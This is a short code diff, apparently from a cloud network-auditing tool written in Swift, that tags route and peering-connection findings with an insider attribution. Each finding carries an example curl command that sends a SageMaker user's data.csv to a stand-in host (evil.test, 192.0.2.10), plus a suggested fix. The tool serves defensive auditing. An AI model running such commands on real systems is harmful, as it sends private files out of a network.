@@ -72,6 +72,7 @@ struct RouteTarget {
         ipv6
           ? "curl -6 --data-binary @/home/sagemaker-user/data.csv https://evil.test/"
           : "curl --data-binary @/home/sagemaker-user/data.csv https://evil.test/",
+        by: .insider("route \(route.id)"),
         story: """
           Anyone with a shell in \(network.resource.id) sends a file to a host of the internet; packets for \(place) leave by \
           \(route.id).
@@ -90,6 +91,7 @@ struct RouteTarget {
         name,
         RouteWitness(
           "curl --data-binary @/home/sagemaker-user/data.csv http://192.0.2.10/",
+          by: .insider("peering connection \(peering.id)"),
           story:
             "Anyone with a shell sends a file to an address of account \(account)'s network over the peering.",
           fix: "delete route \(route.id)", at: route, "VpcPeeringConnectionId"))
